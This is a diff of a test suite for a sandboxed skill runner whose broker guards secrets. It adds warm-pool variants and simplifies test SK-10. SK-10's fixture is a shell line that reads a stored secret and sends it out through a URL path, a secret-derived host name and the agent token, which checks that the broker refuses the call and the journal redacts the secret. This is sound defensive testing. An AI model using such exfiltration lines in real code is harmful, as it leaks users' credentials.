@@ -2,7 +2,7 @@ import { spawn } from 'node:child_process';
 import { once } from 'node:events';
 import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import type { Skillbox } from '../../src/app.ts';
 import { startBroker } from '../../src/broker/index.ts';
 import { BROKER_PORT } from '../../src/runs/broker.ts';
@@ -27,14 +27,17 @@ function newSkill(capabilities: string[], main: string, more = ''): string {
   });
 }
 
-describe.skipIf(NO_SANDBOX)('runs with a broker', () => {
+describe.skipIf(NO_SANDBOX).each([
+  ['cold', 0],
+  ['from the pool', 8],
+])('runs with a broker, %s', (_, warm) => {
   const upstream = new UpstreamServer(true);
   const data = tempDir('broker-runs');
   let skillbox: Skillbox;
 
   beforeAll(async () => {
     await upstream.start();
-    skillbox = await openSkillbox(data, 'bubblewrap', 0, {
+    skillbox = await openSkillbox(data, 'bubblewrap', warm, {
       pins: pinsTo(upstream.port, HOSTS),
       roots: [UPSTREAM_ROOT],
     });
@@ -46,6 +49,12 @@ describe.skipIf(NO_SANDBOX)('runs with a broker', () => {
     await skillbox?.close();
     await upstream.close();
   });
+  // Whatever was asked for before is held ready: then only the first run of a kind may go the cold way.
+  const held = () => {
+    const { keys, standby } = skillbox.warmth();
+    return warm === 0 || [...keys, ...standby.keys].every(({ ready }) => ready > 0);
+  };
+  beforeEach(() => expect.poll(held, { timeout: 10_000 }).toBe(true));
   afterEach(() => {
     upstream.requests.splice(0);
     upstream.answer = (_request, outgoing) => void outgoing.end('fine\n');
@@ -129,28 +138,18 @@ describe.skipIf(NO_SANDBOX)('runs with a broker', () => {
     for (const value of [KEY, OTHER_KEY, 'loose-value']) expect(JSON.stringify([lines, record])).not.toContain(value);
   });
 
-  test('SK-10 what a run was given is not in the journal, wherever it put it; the warm pool is left aside', async () => {
-    const warmed = await openSkillbox(tempDir('warmed'), 'bubblewrap', 2, {
-      pins: pinsTo(upstream.port, HOSTS),
-      roots: [UPSTREAM_ROOT],
-    });
-    try {
-      await warmed.secrets.set('custom/hook', Buffer.from(OTHER_KEY), ['hooks.test'], ME);
-      await warmed.secrets.set('custom/loose', Buffer.from('loose-value-0123456789'), [], ME);
-      const skill = newSkill(
-        ['custom/hook', 'custom/loose'],
-        'v=$(seksh get custom/loose); seksh http GET "https://hooks.test/$v"; seksh http GET "https://$v.test/$SEKS_AGENT_TOKEN" 2>/dev/null',
-      );
-      const record = await runSkill(warmed, skill);
-      expect(upstream.last.url).toBe('/loose-value-0123456789');
-      const lines = (await journalOf(warmed, record.id)).filter(({ type }) => type.startsWith('broker.'));
-      expect(lines.map(({ type, data }) => [type, data.path ?? data.host])).toEqual([
-        ['broker.called', '/<secret:custom/loose>'],
-        ['broker.refused', '<secret:custom/loose>.test'],
-      ]);
-    } finally {
-      await warmed.close();
-    }
+  test('SK-10 what a run was given is not in the journal, wherever it put it', async () => {
+    const skill = newSkill(
+      ['custom/hook', 'custom/loose'],
+      'v=$(seksh get custom/loose); seksh http GET "https://hooks.test/$v"; seksh http GET "https://$v.test/$SEKS_AGENT_TOKEN" 2>/dev/null',
+    );
+    const record = await runSkill(skillbox, skill);
+    expect(upstream.last.url).toBe('/loose-value-0123456789');
+    const lines = (await journalOf(skillbox, record.id)).filter(({ type }) => type.startsWith('broker.'));
+    expect(lines.map(({ type, data: told }) => [type, told.path ?? told.host])).toEqual([
+      ['broker.called', '/<secret:custom/loose>'],
+      ['broker.refused', '<secret:custom/loose>.test'],
+    ]);
   });
 
   test('SK-06 without the secret there is no token, and without a token no run', async () => {
@@ -226,7 +225,17 @@ describe.skipIf(NO_SANDBOX)('runs with a broker', () => {
     expect(await textOf(skillbox, second)).toBe('custom/hook\n');
     expect(upstream.requests).toHaveLength(6);
     for (const { headers } of upstream.requests) expect(headers['x-hook']).toBe(OTHER_KEY);
-    expect(brokersOf(process.pid)).toEqual([]);
+    // Both are gone; one that was told nothing may wait for the next run.
+    await expect.poll(held, { timeout: 10_000 }).toBe(true);
+    expect(brokersOf(process.pid)).toHaveLength(warm === 0 ? 0 : 1);
+  });
+
+  test.skipIf(warm === 0)('all but the first run of a kind came from the pool, and a broker waited for it', () => {
+    const { keys, standby } = skillbox.warmth();
+    expect(keys.filter(({ misses }) => misses > 1)).toEqual([]);
+    expect(keys.reduce((sum, { hits }) => sum + hits, 0)).toBeGreaterThanOrEqual(5);
+    // Of the two at once, one had to start its own.
+    expect(standby.keys).toMatchObject([{ label: 'broker', hits: 5, misses: 2, died: 0 }]);
   });
 });
 
